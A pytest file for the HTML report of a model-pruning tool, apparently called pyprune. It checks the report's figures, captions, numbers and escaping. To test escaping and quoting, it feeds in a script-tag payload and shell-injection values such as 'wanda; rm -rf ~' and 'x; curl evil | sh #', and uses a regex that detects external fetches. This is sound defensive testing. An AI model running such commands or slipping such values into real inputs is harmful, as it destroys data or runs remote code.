"""The report: what each file of facts becomes, with the right numbers, escaped, and with nothing from outside."""

from __future__ import annotations

import importlib.util
import json
import re
from pathlib import Path
from typing import Any

import pytest
import report_cases as cases
from test_cli import as_json, call, refused

from pyprune import prune, report
from pyprune.base.errors import InputError, PypruneError
from pyprune.model import checkpoint, loading
from pyprune.report import facts, parts, svg, words
from pyprune.report.facts import KINDS

ROOT = Path(report.__file__).parents[2]
HOSTILE = '<script>alert("1")</script>$x^2$&amp;\x00\ud800 {{ 7*7 }}'
# What a browser would fetch; attributes may be unquoted.
OUTSIDE = re.compile(
    r"""(?:src|srcset|href|action|poster|data|formaction)\s*=\s*["']?(?!\#|data:,)[^\s"'>]|url\((?!["']?\#)|@import|<script|<iframe|<object|<embed|<base|\son\w+\s*=""",
    re.IGNORECASE,
)


@pytest.fixture(autouse=True)
def _not_drawn(monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest) -> None:
    """Figures take a tenth of a second each: only tests that look at them draw them."""
    if "drawn" not in request.fixturenames:
        monkeypatch.setattr(parts, "draw", cases.undrawn)


@pytest.fixture
def drawn() -> None:
    """The test looks at figures."""


def test_the_whole_page(tmp_path: Path, drawn: None) -> None:
    made = report.write(cases.fill_all(tmp_path))
    page = made.path.read_text(encoding="utf-8")
    assert made.path == tmp_path / "report.html" and made.files[4] == "pruned/pyprune.json"
    assert made.figures == page.count("<figure ") == page.count("</svg>") == len(cases.captions(page)) == 31
    assert not OUTSIDE.findall(page)
    assert "http:" not in page and "https:" not in page and "xmlns" not in page
    assert page.count('role="img"') == made.figures
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'(?:href="|url\()#([^")]+)', page)) <= set(ids)
    # Every colour of a figure is one of the page's, which change with light and dark.
    figures = "".join(re.findall(r"<svg.*?</svg>", page, re.DOTALL))
    assert not re.findall(r"#[0-9a-fA-F]{6}\b", figures)
    used = set(re.findall(r"var\(--(\w+)\)", figures))
    light, dark = (re.findall(r"--(\w+):", part) for part in page.split("@media (prefers-color-scheme: dark)")[:2])
    assert used and used <= set(light) & set(dark)
    # The same again, to the byte.
    assert report.build(tmp_path) == page


def test_the_answer_says_what_was_measured(tmp_path: Path) -> None:
    page = report.build(cases.fill_all(tmp_path))
    assert cases.answer_of(page) == (
        "25% of FFN neurons removed: 1.25x as fast when decoding (accelerated), where fewer neurons alone allow 1.13x; "
        "20% smaller file; perplexity 10.0 → 12.5 on prose.txt (second half); multiple choice keeps 90% of what was "
        "above chance, answer tokens 75% and generation 40%; half of its greedy texts have parted from dense's by "
        "token 4."
    )
    tiles = re.findall(r"<dt>(.*?)</dt>\s*<dd class=\"value\">(.*?)</dd>", page)
    assert dict(tiles) == {
        "Token perplexity": "12.5",
        "Decoding, batch 1, accelerated": "1.25x",
        "Reading a prompt, 512 tokens, accelerated": "1.25x",
        "File": "400 MB",
        "Kept in generation": "40%",
        "Half of greedy texts have parted by": "token 4",
    }
    beside = " ".join(cases.text_of(page, "dd"))
    for words_ in (
        "dense 10.0, +25%",
        "dense 20.0 tokens/s, now 25.0",
        "dense 500 MB, -20%",
        "as saved 1.08x",
        "25% still as dense writes after 6",
    ):
        assert words_ in beside


# What the answer and the captions say where the folder has one file only.
ALONE: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "results": (
        ("25% of FFN neurons removed", "perplexity 10.0 → 12.5"),
        ("Each of the 4 layers keeps 48 of 64: 75% of 256 neurons.", "by 25% on average", "most in layer 3 (40%)"),
    ),
    "diagnose": (
        ("20% of the parameters removed", "perplexity 20.0 → 30.0"),
        ("Most is lost on written (exact): from 50%", "facts keeps 90% (85% to 95%)"),
    ),
    "suite": (
        (
            "over 2 kinds of text perplexity is 1.31x (1.26x to 1.36x) of dense",
            "at worst 1.44x (1.39x to 1.49x) (wine)",
        ),
        ("1.31x (1.26x to 1.36x) of dense by geometric mean; the worst is wine with 1.44x",),
    ),
    "redundancy": (
        ("75% of 256 FFN neurons are unique at a cosine of 0.8",),
        ("hold 35% of all sensitivity", "wanda keeps most of the sensitivity (95%) and random least (75%)"),
    ),
    "pyprune": (
        ("A checkpoint of 4 FFNs with 32 to 64 neurons",),
        ("from 32 (layer 1) to 64 (layer 3), 192 in all",),
    ),
    "bench": (
        ("25% of FFN neurons removed: 1.25x as fast",),
        ("decode, batch 1: 1.08x (as saved) and 1.25x (accelerated)",),
    ),
    "nested": (
        ("down to 50% of the neurons, there 1.50x as fast",),
        ("perplexity is 50.0 (dense 20.0)", "it would be 200.", "takes 30.0 ms with 50% of the neurons"),
    ),
    "latency_aware": (
        ("Asked for 1.30x, measured 1.33x", "20.0 → 45.0"),
        ("measured to within 2.0%", "from 16 (layer 1) to 64", "4.00 times the neurons take 3.00 times the time"),
    ),
    "compare": (
        ("of 4 ways to prune, pyprune loses least at 50% removed: perplexity 20.0 → 40.0",),
        ("at 30% removed the least is 30.0 (pyprune), then 38.0 (FLAP)", "beyond the picture: magnitude"),
    ),
    "recover": (
        ("Recovery took perplexity from 36.6 to 29.9", "(dense 25.0)"),
        ("from 3.60 to 3.40 nats a token in 20 steps; the teacher has 3.20",),
    ),
}


@pytest.mark.parametrize("name", ALONE)
def test_each_file_alone(name: str, tmp_path: Path) -> None:
    content = cases.FILES[f"{name.replace('_', '-')}.json"]()
    page = report.build(cases.fill(tmp_path, **{name: content}))
    said, told = cases.answer_of(page), " ".join(cases.captions(page).values())
    answer, wanted = ALONE[name]
    assert all(part.lower() in said.lower() for part in answer), said
    assert all(part.lower() in told.lower() for part in wanted), told
    assert not re.findall(r"\b(?:None|nan|inf|NaN)\b", page)
    for tag in ("script", "img", "iframe"):
        assert f"<{tag}" not in page


def test_the_other_form_of_recovery(tmp_path: Path) -> None:
    page = report.build(cases.fill(tmp_path, recover=cases.recover_bench()))
    assert "Recovery took perplexity from 36.6 to 29.9 on one.txt (dense 25.0)." in cases.answer_of(page)
    assert "On one.txt, perplexity falls from 36.6 to 29.9; dense has 25.0." in cases.captions(page).values()


def test_captions_of_the_hierarchy_and_of_drift(tmp_path: Path) -> None:
    told = cases.captions(report.build(cases.fill(tmp_path, diagnose=cases.diagnose())))
    assert told["Along each model's own stream"] == (
        "Behind the last layer the hidden state is 0.04 (0.036 to 0.044) away from dense (1 - cos); of what layers "
        "add, FFNs differ by up to 0.1, all else by up to 0.003."
    )
    assert "the FFN of layer 3 differs most, by 0.08 (0.072 to 0.088)" in told["Each layer alone"]
    assert "1 - cos is 0.03 (0.027 to 0.033) in front of the LM head" in told["Through the three spaces"]
    assert "5.00 times as much as its centred logits (to second order 6.00)" in told["Through the three spaces"]
    assert "by 1.00 of their own norm at temperature 0.5 and by 0.25 at 2" in told["Amplification over temperature"]
    # estimate 0.1 * 2^i against 0.1 * 1.5^i: by more than a quarter from i = 1 (0.2 against 0.15) on.
    assert "off by more than a quarter in 4 groups, from 0.15 nats on" in told["Where the second order breaks down"]
    assert "adds 0.3 (0.27 to 0.33)" in told["Step by step, greedy"]
    assert told["Step by step, sampled"].startswith("At temperature 1, with common random numbers: on dense's own text")
    survival = told["How long the texts stay the same"]
    assert survival.startswith(
        "Of 8 continuations: greedy, half have parted at token 4 and 25% are still the same after 6"
    )
    tokens = told["The answers among themselves"]
    assert "facts, letters 0.05 against 0.2; they move less in 1 of 1 task" in tokens


def test_a_model_that_lost_nothing(tmp_path: Path, drawn: None) -> None:
    """Deviations that are exactly zero, which no log scale can show."""
    page = report.build(cases.fill(tmp_path, diagnose=cases.diagnose(0.0)))
    assert "most of its greedy texts are dense's own through 6 tokens" in cases.answer_of(page)
    told = cases.captions(page)
    assert "is 0 (0 to 0) away from dense" in told["Along each model's own stream"]
    assert "fewer than half have parted and 100% are still the same" in told["How long the texts stay the same"]


def test_what_was_not_there_is_left_out(tmp_path: Path) -> None:
    found = cases.diagnose()
    for key in ("hierarchy", "drift", "machine", "provenance", "parameters"):
        del found[key]
    for task in found["tasks"]["tasks"]:
        for entry in task["metrics"].values():
            entry["retained"] = None
    page = report.build(cases.fill(tmp_path, diagnose=found))
    assert list(cases.captions(page)) == ["Scores, dense and pruned", "The answers among themselves"]
    commands = " ".join(cases.text_of(page, "code"))
    assert "--prompts" not in commands and "--items 40" in commands  # which `diagnose` refuses without their parts
    assert "Perplexity" not in page and "tile" not in re.findall(r'class="(\w+)"', page)
    found = cases.diagnose()
    found["hierarchy"]["perplexity"]["pruned"] = None  # too large for a number
    assert "Token perplexity" not in report.build(cases.fill(tmp_path, diagnose=found))


def test_a_task_near_chance_does_not_decide_what_its_kind_keeps(tmp_path: Path) -> None:
    """Kept 90 % of 0.6 above chance, and minus 400 % of 0.01."""
    found = cases.diagnose()
    guessed = {**found["tasks"]["tasks"][0], "name": "guessed"}
    guessed["metrics"] = {guessed["main"]: cases.metric(0.26, 0.21, 0.25)}
    found["tasks"]["tasks"].append(guessed)
    page = report.build(cases.fill(tmp_path, diagnose=found))
    assert "multiple choice 82%" in page  # (0.54 - 0.04) / 0.61


def test_names_and_texts_are_never_markup(tmp_path: Path, drawn: None) -> None:
    def poisoned(value: Any) -> Any:
        if isinstance(value, dict):
            return {
                key: entry if key in ("kind", "path", "suffers_more") else poisoned(entry)
                for key, entry in value.items()
            }
        if isinstance(value, list):
            return [poisoned(entry) for entry in value]
        return HOSTILE if isinstance(value, str) else value

    for name, make in cases.FILES.items():
        content = poisoned(make())
        if name == "diagnose.json":
            for task in content["tasks"]["tasks"]:
                task["main"] = next(iter(task["metrics"]))
        if name == "compare.json":
            content["rows"] = content["rows"][:2]
        (tmp_path / name).write_text(json.dumps(content))
    page = report.build(tmp_path)
    assert "<script" not in page and "{{" in page and "49" not in cases.text_of(page, "h1")[0]
    assert not OUTSIDE.findall(re.sub(r">[^<]*<", "><", page)) and "\x00" not in page
    drawings = re.findall(r"<svg.*?</svg>", page, re.DOTALL)
    assert sum("&lt;script" in drawing for drawing in drawings) >= 3
    (tmp_path / "page.html").write_text(page, encoding="utf-8")  # no half of a surrogate pair is left


def test_commands_name_no_path_and_no_file(tmp_path: Path) -> None:
    page = report.build(cases.fill_all(tmp_path))
    assert "somebody" not in page and "/home" not in page
    commands = " ".join(" ".join(cases.text_of(page, "code")).split())
    for command in (
        "pyprune demo --out DIR --keep 0.75 --tokens 2048 --text FILE",
        "pyprune prune DENSE --out PRUNED --keep 0.75 --method wanda --seed 3",
        "pyprune diagnose DENSE PRUNED --text FILE --tokens 512 --window 64 --parts hierarchy,drift,tasks --prompts 8",
        "pyprune inspect DENSE --redundancy --text FILE --threshold 0.8 --keep 0.75 --criteria wanda,random --tokens",
        "pyprune compare DENSE --text FILE --keep 0.7,0.5 --tokens 1024 --evaluation-tokens 1024 --window 128",
        "pyprune report DIR -o report.html",
    ):
        assert command in commands
    found = cases.diagnose()
    found["text"] = "pydoc_data.topics (second half)"
    found["provenance"]["config"]["method"] = "wanda; rm -rf ~"
    commands = " ".join(cases.text_of(report.build(cases.fill(tmp_path / "b", diagnose=found)), "code"))
    assert "'wanda; rm -rf ~'" in " ".join(commands.split()) and "--text" not in commands
    found["provenance"]["config"]["x; curl evil | sh #"] = 1
    found["provenance"] |= {"sources": [{"source": "builtin:$(touch pwn)", "share": 1.0}]}
    commands = " ".join(cases.text_of(report.build(cases.fill(tmp_path / "b", diagnose=found)), "code"))
    assert "curl" not in commands and "--text 'builtin:$(touch pwn)'@1" in " ".join(commands.split())
    del found["provenance"]["sources"]
    found["provenance"]["config"] = {"compensate": "none", "damping": None, "sequential": False}
    assert "pyprune prune" not in report.build(cases.fill(tmp_path / "b", diagnose=found))  # a mask chose
    found["provenance"]["config"]["keep"] = 0.5
    commands = " ".join(
        " ".join(cases.text_of(report.build(cases.fill(tmp_path / "b", diagnose=found)), "code")).split()
    )
    assert "prune DENSE --out PRUNED --damping auto --keep 0.5 --repair none --no-sequential" in commands


def test_which_manifest(tmp_path: Path) -> None:
    for folder in ("dense", "pruned"):
        cases.fill(tmp_path / folder, pyprune=cases.manifest())
    assert facts.load_facts(tmp_path).places == {"pyprune.json": "pruned/pyprune.json"}
    (tmp_path / "pruned").rename(tmp_path / "other")
    with pytest.raises(InputError, match="at least one of"):  # either could be meant
        facts.load_facts(tmp_path)


def test_widths_of_a_manifest_and_of_the_neurons_that_were_looked_at(tmp_path: Path) -> None:
    both = {"pyprune": cases.manifest(), "redundancy": cases.redundancy()}
    told = cases.captions(report.build(cases.fill(tmp_path, **both)))["Neurons that stay, by layer"]
    assert told == "Layers keep from 32 (layer 1) to 64 (layer 3): 75% of 256 neurons."
    both["redundancy"]["redundancy"]["layers"][0]["neurons"] = 40  # those of another model: fewer than are left
    told = cases.captions(report.build(cases.fill(tmp_path, **both)))["Neurons that stay, by layer"]
    assert told == "Layers keep from 32 (layer 1) to 64 (layer 3), 192 in all."


@pytest.mark.parametrize("name", [n for n in KINDS if (ROOT / "bench" / "results" / n).is_file()])
def test_committed_results_can_be_reported(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes((ROOT / "bench" / "results" / name).read_bytes())
    assert len(cases.captions(report.build(tmp_path))) >= 1


def test_what_the_verbs_write_can_be_reported(
    tiny_checkpoint: Path, tokenizer: Any, tmp_path: Path, drawn: None
) -> None:
    model = loading.load_model(str(tiny_checkpoint))
    prune(model, keep=0.5, method="random", allocation="uniform:multiple=8", repair=None)
    checkpoint.save(model, tmp_path / "pruned", tokenizer)
    small = ("--tokens", 256, "--window", 64)
    budget = ("--prompts", 2, "--prompt-tokens", 8, "--new-tokens", 4, "--items", 4)
    as_json("diagnose", tiny_checkpoint, tmp_path / "pruned", *small, *budget, "--out", tmp_path / "diagnose.json")
    found = as_json("inspect", tiny_checkpoint, "--redundancy", *small, "--criteria", "wanda,random")
    cases.fill(tmp_path, redundancy=found)
    out = tmp_path / "page.html"
    told = as_json("report", tmp_path, "-o", out)
    assert told["files"] == ["diagnose.json", "redundancy.json", "pruned/pyprune.json"] and told["figures"] >= 15
    assert told["bytes"] == out.stat().st_size
    page = out.read_text(encoding="utf-8")
    assert (
        str(tmp_path) not in page
        and "Each of the 3 layers keeps 48 of 96: 50% of 288 neurons." in cases.captions(page).values()
    )


def test_the_verb(tmp_path: Path) -> None:
    cases.fill(tmp_path, bench=cases.bench())
    shown = call("report", tmp_path)
    assert shown.exit_code == 0 and (tmp_path / "report.html").is_file()
    assert "2 figures in 2 parts, from bench.json" in " ".join(shown.stdout.split())
    (tmp_path / "bench.json").write_text("{")
    assert "bench.json must be JSON in UTF-8" in refused(2, "report", tmp_path)
    assert "folder must be an existing folder" in refused(2, "report", tmp_path / "no")


def test_what_is_not_installed_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    find = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "jinja2" else find(name, *a))
    with pytest.raises(PypruneError, match=re.escape("the report needs jinja2: pip install 'pyprune[report]'")):
        report.build(cases.fill(tmp_path, bench=cases.bench()))


def test_a_drawing(drawn: None) -> None:
    def paint(axes: Any) -> None:
        axes.plot([0, 1], [0, 1], color=svg.PRUNED, marker="o", label="<b>")
        axes.text(0.5, 0.5, "a $dollar$ & <tag>", weight="bold")
        axes.legend()

    found = svg.draw("one", 'a "label"', paint)
    assert found.startswith("<svg viewBox=") and 'aria-label="a &quot;label&quot;"' in found
    assert "var(--pruned)" in found and "#fe" not in found and "<style" not in found and "<metadata" not in found
    assert "a $dollar$ &amp; &lt;tag&gt;" in found and "&lt;b&gt;" in found and re.search("font-weight: [67]00", found)
    assert "DejaVu" not in found
    marks = re.findall(r'href="#(one-[^"]+)"', found)
    assert marks and all(f'id="{mark}"' in found for mark in marks)
    assert found == svg.draw("one", 'a "label"', paint) and svg.draw("two", "", paint).count('"#one-') == 0


def test_numbers_as_words() -> None:
    assert [words.short(v) for v in (0, 0.30104, 12.659, 1465.05, 1.2e-14, 3e7, -0.5)] == [
        "0",
        "0.301",
        "12.7",
        "1,465",
        "1.2e-14",
        "3.0e+07",
        "-0.5",
    ]
    assert [words.percent(v) for v in (0, 0.7083, 0.0324, 0.996, 1, 1.005, 2.5)] == [
        "0%",
        "71%",
        "3.2%",
        "99.6%",
        "100%",
        "100.5%",
        "250%",
    ]
    assert [words.tick(v) for v in (50, 2000, 0.01, 1e-4, 1e-12)] == ["50", "2,000", "0.01", "1e-4", "1e-12"]
    assert [words.tick_percent(v) for v in (0, 0.05, 0.001, 1)] == ["0", "5%", "0.1%", "100%"]
    assert words.estimate({"mean": 0.5, "interval": [0.4, 0.6]}, words.percent) == "50% (40% to 60%)"
    assert words.estimate({"value": 2.0, "interval": None}) == "2.00" and words.estimate(None) == "-"
    assert words.model_name("/home/me/smol/") == "smol" and words.model_name("C:\\models\\a") == "a"
    assert words.clip("a  long\nname", 6) == "a lon…" and words.listed(["a", "b", "c"]) == "a, b and c"
